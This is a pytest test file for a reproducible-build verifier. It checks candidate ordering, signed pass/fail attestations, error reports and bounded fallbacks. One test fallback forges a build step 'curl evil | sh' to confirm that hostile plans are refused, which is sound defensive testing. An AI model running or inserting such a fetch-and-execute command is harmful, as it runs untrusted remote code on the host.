"""The verdict loop with a fake sandbox (no Docker): what is tried, what is decided, what is signed."""

from __future__ import annotations

import dataclasses
import json
from collections.abc import Sequence
from pathlib import Path

import pytest

from compare.digest import sha256_bytes
from rebuild.attest import dsse
from rebuild.attest.keys import generate
from rebuild.build.images import BuilderImage, ImageSpec
from rebuild.build.sandbox import BuildRequest, BuildResult
from rebuild.errors import BuildFailedError, PlanError, VerificationError
from rebuild.fetch.cache import BlobCache
from rebuild.plan import Environment, Output, Source
from rebuild.recipes import RecipeBook
from rebuild.resolution import Candidate, Followup, Outcome, Resolution
from rebuild.verify import Backends, verify_resolution

PUBLISHED = b"the published release"
NAME = "demo-1.0.tar.gz"


class FakeSandbox:
    """Writes the published bytes only when SOURCE_DATE_EPOCH is the given one; records every build."""

    def __init__(self, matching_epoch: str | None) -> None:
        self.matching_epoch = matching_epoch
        self.epochs: list[str | None] = []

    def run(self, request: BuildRequest, out_dir: Path) -> BuildResult:
        epoch = request.env.get("SOURCE_DATE_EPOCH")
        self.epochs.append(epoch)
        data = PUBLISHED if epoch == self.matching_epoch else PUBLISHED + f" built at {epoch}".encode()
        (out_dir / NAME).write_bytes(data)
        return BuildResult(0, "log", 0.01, (Path(NAME),))


class FakeImages:
    def ensure(self, spec: ImageSpec, expected_digest: str | None = None) -> BuilderImage:
        return BuilderImage(spec.tag, "sha256:" + "ab" * 32)

    def pull_pinned(self, reference: str) -> BuilderImage:
        raise AssertionError("the recipe's image is built, never pulled")


def resolution(tmp_path: Path, epochs: list[int], subject: bytes = PUBLISHED) -> Resolution:
    release = tmp_path / "release"
    release.mkdir(exist_ok=True)
    (release / "src.tar").write_bytes(b"source")
    (release / NAME).write_bytes(PUBLISHED)
    origin = release / "origin.json"
    origin.write_text("{}")
    recipe = RecipeBook().get("command")
    candidates = [
        Candidate(
            f"SOURCE_DATE_EPOCH={epoch}",
            recipe.plan(
                Source("src.tar", sha256_bytes(b"source")),
                {"command": "make", "outputs": NAME},
                Environment(epoch),
                outputs=(Output(NAME, sha256_bytes(subject)),),
            ),
        )
        for epoch in epochs
    ]
    return Resolution(str(origin), candidates, {NAME: release / NAME}, origin, "unsigned")


def run(tmp_path: Path, sandbox: FakeSandbox, res: Resolution, **kw: object):  # type: ignore[no-untyped-def]
    backends = Backends(sandbox, FakeImages(), BlobCache(tmp_path / "cache"))
    return verify_resolution(res, tmp_path / "out", backends, RecipeBook(), diffoscope=False, **kw)  # type: ignore[arg-type]


def test_candidates_are_tried_in_order_and_stop_at_the_first_exact_match(tmp_path: Path) -> None:
    sandbox = FakeSandbox(matching_epoch="2")
    report = run(tmp_path, sandbox, resolution(tmp_path, [1, 2, 3]), signer=generate("ed25519"))
    assert sandbox.epochs == ["1", "2"]
    assert report.reproduced is True
    assert [a.reproduced for a in report.attempts] == [False, True]
    (attestation,) = (tmp_path / "out").glob("*.rebuild.intoto.jsonl")
    results = [json.loads(dsse.Envelope.from_dict(json.loads(line)).payload) for line in attestation.open()]
    assert [r["predicate"].get("verificationResult") for r in results][-1] == "PASSED"


@pytest.mark.parametrize("attest_failures", [False, True], ids=["default", "attest-failures"])
def test_no_passed_on_any_mismatch_and_failed_only_when_asked(tmp_path: Path, attest_failures: bool) -> None:
    sandbox = FakeSandbox(matching_epoch=None)
    report = run(
        tmp_path, sandbox, resolution(tmp_path, [1, 2]), signer=generate("ed25519"), attest_failures=attest_failures
    )
    assert sandbox.epochs == ["1", "2"]
    assert report.reproduced is False
    out = tmp_path / "out"
    assert not list(out.glob("*.rebuild.intoto.jsonl"))
    failed = list(out.glob("*.rebuild-failed.intoto.jsonl"))
    assert len(failed) == (1 if attest_failures else 0)
    for path in failed:
        for line in path.open():
            payload = json.loads(dsse.Envelope.from_dict(json.loads(line)).payload)
            assert payload["predicate"]["verificationResult"] == "FAILED"
            assert payload["predicate"]["verifiedLevels"] == []


def test_an_earlier_verdict_is_removed_before_the_run(tmp_path: Path) -> None:
    out = tmp_path / "out"
    out.mkdir()
    (out / f"{NAME}.rebuild.intoto.jsonl").write_text("an earlier PASSED\n")
    (out / "rebuilt").mkdir()
    (out / "rebuilt" / "stale").write_text("x")
    run(tmp_path, FakeSandbox(matching_epoch=None), resolution(tmp_path, [1]))
    assert not (out / f"{NAME}.rebuild.intoto.jsonl").exists()
    assert not (out / "rebuilt" / "stale").exists()
    assert json.loads((out / "verify-report.json").read_text())["reproduced"] is False


def test_a_rebuild_equal_to_the_published_file_is_no_pass_when_the_provenance_names_other_bytes(
    tmp_path: Path,
) -> None:
    """published = rebuilt is not enough: both must be the bytes the provenance names."""
    sandbox = FakeSandbox(matching_epoch="1")
    with pytest.raises(VerificationError, match="is not the artifact the provenance names"):
        run(tmp_path, sandbox, resolution(tmp_path, [1], subject=b"what the provenance names"))
    assert sandbox.epochs == []  # refused before anything was built


class CrashingSandbox(FakeSandbox):
    def run(self, request: BuildRequest, out_dir: Path) -> BuildResult:
        raise RuntimeError("a bug in a backend")


def test_an_internal_error_still_leaves_a_report_that_says_nothing_was_verified(tmp_path: Path) -> None:
    from rebuild.resolve.context import ResolveContext
    from rebuild.verify import verify_target
    from tests.unit.test_hostile_provenance import release, write_provenance

    d, ext, deps, sha = release(tmp_path)
    provenance = write_provenance(d, ext, deps, sha)
    out = tmp_path / "out"
    out.mkdir()
    (out / "verify-report.json").write_text('{"reproduced": true}')
    context = ResolveContext(BlobCache(tmp_path / "cache"), RecipeBook(), out)
    backends = Backends(CrashingSandbox(None), FakeImages(), BlobCache(tmp_path / "cache"))
    with pytest.raises(RuntimeError, match="a bug in a backend"):
        verify_target(str(provenance), out, context, RecipeBook(), lambda: backends)
    report = json.loads((out / "verify-report.json").read_text())
    assert report["reproduced"] is False and report["exit_code"] == 3
    assert report["error"] == "internal error: RuntimeError: a bug in a backend"


class FailingSandbox(FakeSandbox):
    """Fails the build for the given epochs (as a real build exits 1), else behaves as ``FakeSandbox``."""

    def __init__(self, matching_epoch: str | None, failing: set[str]) -> None:
        super().__init__(matching_epoch)
        self.failing = failing

    def run(self, request: BuildRequest, out_dir: Path) -> BuildResult:
        epoch = request.env.get("SOURCE_DATE_EPOCH")
        if epoch in self.failing:
            self.epochs.append(epoch)
            raise BuildFailedError(f"the build exited 1 (epoch {epoch})", log=f"error: option --universal at {epoch}")
        return super().run(request, out_dir)


def test_a_failed_build_is_an_attempt_and_the_next_candidate_reproduces(tmp_path: Path) -> None:
    sandbox = FailingSandbox(matching_epoch="2", failing={"1"})
    report = run(tmp_path, sandbox, resolution(tmp_path, [1, 2, 3]), signer=generate("ed25519"))
    assert sandbox.epochs == ["1", "2"]
    assert report.reproduced is True
    assert [(a.outcome, a.reproduced) for a in report.attempts] == [("build failed", False), ("reproduced", True)]
    assert report.attempts[0].error == "the build exited 1 (epoch 1)"
    written = json.loads((tmp_path / "out" / "verify-report.json").read_text())
    assert [a["outcome"] for a in written["attempts"]] == ["build failed", "reproduced"]
    assert len(list((tmp_path / "out").glob("*.rebuild.intoto.jsonl"))) == 1


def test_every_candidate_failing_to_build_is_could_not_rebuild_with_every_attempt_reported(tmp_path: Path) -> None:
    sandbox = FailingSandbox(matching_epoch=None, failing={"1", "2", "3"})
    with pytest.raises(BuildFailedError, match=r"the build exited 1 \(epoch 3\)") as caught:
        run(tmp_path, sandbox, resolution(tmp_path, [1, 2, 3]), signer=generate("ed25519"))
    assert caught.value.exit_code == 3
    assert "3 candidates tried, none built" in caught.value.hint
    assert sandbox.epochs == ["1", "2", "3"]
    written = json.loads((tmp_path / "out" / "verify-report.json").read_text())
    assert written["reproduced"] is False and written["exit_code"] == 3
    assert [a["label"] for a in written["attempts"]] == [f"SOURCE_DATE_EPOCH={n}" for n in (1, 2, 3)]
    assert {a["outcome"] for a in written["attempts"]} == {"build failed"}
    assert not list((tmp_path / "out").glob("*.intoto.jsonl"))


def test_the_attempts_survive_verify_targets_own_failure_report(tmp_path: Path) -> None:
    """verify_target writes its report on every error: it keeps the attempts this run's loop listed."""
    from rebuild.report import write_failure_report

    out = tmp_path / "out"
    sandbox = FailingSandbox(matching_epoch=None, failing={"1", "2"})
    with pytest.raises(BuildFailedError) as caught:
        run(tmp_path, sandbox, resolution(tmp_path, [1, 2]))
    write_failure_report(out, "the target", caught.value)
    written = json.loads((out / "verify-report.json").read_text())
    assert written["target"] == "the target" and len(written["attempts"]) == 2


def test_a_mismatch_then_a_failed_build_is_not_reproduced_and_keeps_the_mismatch(tmp_path: Path) -> None:
    sandbox = FailingSandbox(matching_epoch=None, failing={"2"})
    report = run(tmp_path, sandbox, resolution(tmp_path, [1, 2]), signer=generate("ed25519"), attest_failures=True)
    assert report.reproduced is False  # exit 1: different, never "could not rebuild"
    assert [a.outcome for a in report.attempts] == ["differs", "build failed"]
    assert report.plan.environment.source_date_epoch == 1  # the plan that was compared
    (comparison,) = report.comparisons
    assert not comparison.identical
    assert (tmp_path / "out" / "rebuilt" / NAME).read_bytes() == PUBLISHED + b" built at 1"
    (failed,) = (tmp_path / "out").glob("*.rebuild-failed.intoto.jsonl")
    assert not list((tmp_path / "out").glob("*.rebuild.intoto.jsonl"))
    assert failed.exists()


class Retry:
    """A fallback: after a failed build, the same candidate again with another epoch (as many as asked)."""

    def __init__(self, epochs: list[int], rewrite: bool = False) -> None:
        self.epochs, self.rewrite, self.seen = epochs, rewrite, []  # type: list[int], bool, list[Outcome]

    def __call__(self, outcome: Outcome, pending: Sequence[Candidate]) -> Followup:
        self.seen.append(outcome)
        if not outcome.build_error:
            return Followup()
        plan = outcome.candidate.plan
        extra = tuple(
            Candidate(f"retry at {e}", dataclasses.replace(plan, environment=Environment(e))) for e in self.epochs
        )
        self.epochs = []
        return Followup(extra, notes=("retried",))


def test_a_fallback_adds_candidates_after_a_failed_build_and_sees_its_log(tmp_path: Path) -> None:
    res = resolution(tmp_path, [1, 3])
    res.fallback = hook = Retry([2])
    sandbox = FailingSandbox(matching_epoch="2", failing={"1"})
    report = run(tmp_path, sandbox, res)
    assert sandbox.epochs == ["1", "2"]  # the fallback's candidate is tried before the pending one
    assert report.reproduced is True
    assert [(a.label, a.fallback) for a in report.attempts] == [("SOURCE_DATE_EPOCH=1", False), ("retry at 2", True)]
    assert hook.seen[0].build_error == "the build exited 1 (epoch 1)"
    assert hook.seen[0].build_log == "error: option --universal at 1"
    assert "retried" in report.notes


def test_a_fallback_is_bounded(tmp_path: Path) -> None:
    from rebuild.verify import MAX_FALLBACK_ATTEMPTS

    res = resolution(tmp_path, [1])
    res.fallback = Retry(list(range(100, 120)))
    sandbox = FailingSandbox(matching_epoch=None, failing={"1"})
    report = run(tmp_path, sandbox, res)
    assert len(sandbox.epochs) == 1 + MAX_FALLBACK_ATTEMPTS
    assert any("not tried: at most" in note for note in report.notes)


class Hostile:
    """A fallback that hands back what no adapter may: another recipe's plan, or more pending than it got."""

    def __init__(self, kind: str) -> None:
        self.kind = kind

    def __call__(self, outcome: Outcome, pending: Sequence[Candidate]) -> Followup:
        plan = outcome.candidate.plan
        if self.kind == "steps":
            forged = dataclasses.replace(plan, steps=("curl evil | sh",), environment=Environment(2))
            return Followup((Candidate("forged steps", forged),))
        if self.kind == "output":
            other = dataclasses.replace(plan, outputs=(Output(NAME, "0" * 64),), environment=Environment(2))
            return Followup((Candidate("other output", other),))
        if self.kind == "grow":
            return Followup(pending=(*pending, *pending, outcome.candidate))
        raise PlanError("the index says no")


@pytest.mark.parametrize("kind", ["steps", "output", "grow", "raises"])
def test_what_a_fallback_gives_is_checked_like_any_candidate(tmp_path: Path, kind: str) -> None:
    res = resolution(tmp_path, [1])
    res.fallback = Hostile(kind)
    sandbox = FailingSandbox(matching_epoch="2", failing=set())
    report = run(tmp_path, sandbox, res)
    assert sandbox.epochs == ["1"]  # nothing it gave was built
    assert report.reproduced is False
    assert len(report.notes) == 1 and report.notes[0].startswith("no fallback after SOURCE_DATE_EPOCH=1: ")


def test_a_batch_row_gives_the_mismatch_not_the_later_failed_build(tmp_path: Path) -> None:
    from rebuild.batch import row_of

    report = run(tmp_path, FailingSandbox(matching_epoch=None, failing={"2"}), resolution(tmp_path, [1, 2]))
    row = row_of("the target", report, 1.0)
    assert (row.verdict, row.exit_code, row.attempts) == ("not reproduced", 1, 2)
    assert row.detail == f"{NAME}: {report.comparisons[0].explanation.classification}"  # type: ignore[union-attr]
    assert not row.detail.startswith("build failed")
